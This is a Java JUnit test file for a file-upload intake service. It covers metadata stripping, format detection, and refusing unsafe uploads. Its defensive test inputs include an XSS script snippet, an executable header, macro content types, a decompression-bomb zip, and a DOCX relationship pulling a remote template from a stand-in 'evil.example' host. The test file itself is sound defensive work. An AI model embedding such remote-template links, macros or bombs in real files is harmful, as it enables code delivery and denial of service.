package cn.gongjian.file.content;

import static cn.gongjian.file.FileProblem.FILE_HOLDS_PROGRAM;
import static cn.gongjian.file.FileProblem.FILE_TYPE_REFUSED;
import static cn.gongjian.file.FileProblem.FILE_UNPACKS_TOO_LARGE;
import static cn.gongjian.file.FileProblem.FILE_UNREADABLE;
import static cn.gongjian.file.content.Samples.PRIVATE;
import static org.junit.jupiter.api.Assertions.assertArrayEquals;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNotNull;
import static org.junit.jupiter.api.Assertions.assertNull;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import cn.gongjian.shared.problem.Problem;
import cn.gongjian.shared.problem.ProblemKind;
import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.nio.ByteBuffer;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Arrays;
import java.util.LinkedHashMap;
import java.util.Map;
import java.util.Random;
import javax.imageio.ImageIO;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class IntakeTest {

    private static final String DOCUMENT = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml";

    @TempDir Path folder;

    private Taken take(byte[] upload) {
        try {
            return Intake.take(Files.write(folder.resolve("upload"), upload));
        } catch (IOException impossible) {
            throw new java.io.UncheckedIOException(impossible);
        }
    }

    private byte[] kept(byte[] upload) throws IOException {
        try (var taken = take(upload)) {
            return Files.readAllBytes(taken.content());
        }
    }

    private void refused(ProblemKind kind, byte[] upload) {
        assertEquals(kind, assertThrows(Problem.class, () -> take(upload)).kind());
    }

    private static void assertTellsNothing(byte[] picture) {
        assertFalse(new String(picture, StandardCharsets.ISO_8859_1).contains(PRIVATE));
    }

    private static int[] points(byte[] picture) throws IOException {
        var image = ImageIO.read(new ByteArrayInputStream(picture));
        return image.getRGB(0, 0, image.getWidth(), image.getHeight(), null, 0, image.getWidth());
    }

    @Test
    void aPhotoTellsNothingOfItsPlaceAnyMore() throws IOException {
        assertTellsNothing(kept(Samples.photo(120, 80, 1)));
    }

    @Test
    void thePointsOfAPhotoStayAsTheyAre() throws IOException {
        var came = Samples.photo(120, 80, 6);
        assertArrayEquals(points(came), points(kept(came)));
    }

    @Test
    void whichSideOfAPhotoIsUpStays() throws IOException {
        var kept = kept(Samples.photo(120, 80, 6));
        assertEquals("Exif", new String(kept, 6, 4, StandardCharsets.ISO_8859_1));
        assertEquals(new Orientation(6), Orientation.in(ByteBuffer.wrap(kept, 12, 26).slice()));
    }

    @Test
    void anUprightPhotoHasNoExifAtAll() throws IOException {
        assertFalse(new String(kept(Samples.photo(120, 80, 1)), StandardCharsets.ISO_8859_1).contains("Exif"));
    }

    @Test
    void takenTwiceAPictureIsTheSame() throws IOException {
        var once = kept(Samples.photo(120, 80, 3));
        assertArrayEquals(once, kept(once));
    }

    @Test
    void aPngLosesItsTextsAndKeepsItsPoints() throws IOException {
        var kept = kept(Samples.png());
        assertTellsNothing(kept);
        assertArrayEquals(points(Samples.png()), points(kept));
        assertTrue(new String(kept, StandardCharsets.ISO_8859_1).contains("eXIf"), "the side that is up");
    }

    @ParameterizedTest
    @ValueSource(ints = {1, 6})
    void aWebpSaysThatItHasExifOnlyForTheSideThatIsUp(int orientation) throws IOException {
        var kept = kept(Samples.webp(orientation));
        assertTellsNothing(kept);
        assertEquals(orientation == 1 ? 0 : 0x08, kept[20]);
        assertEquals(kept.length - 8, ByteBuffer.wrap(kept).order(java.nio.ByteOrder.LITTLE_ENDIAN).getInt(4));
    }

    @Test
    void aLargePictureGetsAThumbnailWithTheSameSideUp() throws IOException {
        try (var taken = take(Samples.photo(3000, 2000, 6))) {
            assertNotNull(taken.thumbnail());
            var small = Files.readAllBytes(taken.thumbnail());
            assertEquals(480, ImageIO.read(new ByteArrayInputStream(small)).getWidth());
            assertEquals("Exif", new String(small, 6, 4, StandardCharsets.ISO_8859_1));
        }
    }

    @Test
    void aSmallPictureIsItsOwnThumbnail() {
        try (var taken = take(Samples.photo(120, 80, 1))) {
            assertNull(taken.thumbnail());
        }
    }

    @Test
    void eachFormatIsToldByItsContent() {
        for (var known : Map.of(FileFormat.JPEG, Samples.photo(30, 20, 1), FileFormat.PNG, Samples.png(), FileFormat.WEBP, Samples.webp(1),
                FileFormat.PDF, Samples.pdf(), FileFormat.DOCX, Samples.docx(), FileFormat.XLSX, Samples.xlsx()).entrySet())
            try (var taken = take(known.getValue())) {
                assertEquals(known.getKey(), taken.format());
            }
    }

    @ParameterizedTest
    @ValueSource(strings = {"", "MZ\u0090\0", "<html><script>alert(1)</script>", "<svg xmlns='http://www.w3.org/2000/svg'/>", "%PDF-1.7 that never ends", "GIF89a",
            "\0\0\0\u0018ftypheic", "文字"})
    void whatIsNoneOfThemIsRefused(String content) {
        refused(FILE_TYPE_REFUSED, content.getBytes(StandardCharsets.ISO_8859_1));
    }

    @Test
    void anyOtherZipIsRefused() {
        refused(FILE_TYPE_REFUSED, Samples.zip(Map.of("META-INF/MANIFEST.MF", "x", "Main.class", "x")));
        refused(FILE_TYPE_REFUSED, Samples.zip(Map.of("[Content_Types].xml", Samples.types("application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml"))));
    }

    @ParameterizedTest
    @ValueSource(strings = {"application/vnd.ms-word.document.macroEnabled.main+xml", "application/vnd.ms-office.vbaProject", "application/vnd.ms-office.activeX+xml",
            "application/vnd.ms-office.vba&#80;roject"})
    void macrosAreRefused(String contentType) {
        refused(FILE_HOLDS_PROGRAM, Samples.zip(Map.of("[Content_Types].xml", Samples.types(DOCUMENT, contentType))));
    }

    @Test
    void aTemplateFromElsewhereIsRefused() {
        refused(FILE_HOLDS_PROGRAM, Samples.zip(Map.of("[Content_Types].xml", Samples.types(DOCUMENT), "word/_rels/settings.xml.rels",
                "<Relationships><Relationship Type=\"http://x/relationships/attachedTemplate\" TargetMode=\"External\" Target=\"http://evil.example/t.dotm\"/></Relationships>")));
    }

    @Test
    void aLinkToElsewhereIsTaken() {
        try (var taken = take(Samples.zip(Map.of("[Content_Types].xml", Samples.types(DOCUMENT), "word/_rels/document.xml.rels",
                "<Relationships><Relationship Type=\"http://x/relationships/hyperlink\" TargetMode=\"External\" Target=\"http://x.example\"/></Relationships>")))) {
            assertEquals(FileFormat.DOCX, taken.format());
        }
    }

    @Test
    void whatUnpacksToFarMoreIsRefused() {
        var entries = new LinkedHashMap<String, byte[]>();
        entries.put("[Content_Types].xml", Samples.types(DOCUMENT).getBytes(StandardCharsets.UTF_8));
        for (int i = 0; i < 5; i++) entries.put("word/" + i, new byte[50 * 1024 * 1024]);
        refused(FILE_UNPACKS_TOO_LARGE, Samples.packed(entries));
    }

    @Test
    void aBrokenZipIsUnreadable() {
        refused(FILE_UNREADABLE, Arrays.copyOf(Samples.docx(), 200));
    }

    @Test
    void aPictureThatClaimsToBeHugeIsUnreadable() {
        var png = Samples.png();
        ByteBuffer.wrap(png).putInt(16, 60_000).putInt(20, 60_000);
        refused(FILE_UNREADABLE, png);
    }

    /** Whatever is damaged or made up, the answer is a refusal or a file, never a fault. */
    @Test
    void noDamageIsAFault() {
        var random = new Random(20261125);
        for (var whole : new byte[][] {Samples.photo(60, 40, 6), Samples.png(), Samples.webp(6), Samples.docx(), Samples.pdf()})
            for (int i = 0; i < 300; i++) {
                var damaged = Arrays.copyOf(whole, i % 3 == 0 ? 12 + random.nextInt(whole.length - 12) : whole.length);
                for (int n = 0; n < 1 + i % 5; n++) damaged[random.nextInt(damaged.length)] = (byte) random.nextInt();
                try {
                    take(damaged).close();
                } catch (Problem refused) {
                    assertTrue(refused.kind().status() == 415 || refused.kind().status() == 413);
                }
            }
    }

    @Test
    void nothingStaysBehind() throws IOException {
        var temporary = Path.of(System.getProperty("java.io.tmpdir"));
        long before = count(temporary);
        refused(FILE_TYPE_REFUSED, new byte[] {1, 2, 3});
        refused(FILE_UNREADABLE, Arrays.copyOf(Samples.photo(60, 40, 1), 300));
        take(Samples.photo(3000, 2000, 1)).close();
        assertEquals(before, count(temporary));
    }

    private static long count(Path temporary) throws IOException {
        try (var entries = Files.list(temporary)) {
            return entries.filter(entry -> entry.getFileName().toString().startsWith("gongjian-file")).count();
        }
    }
}
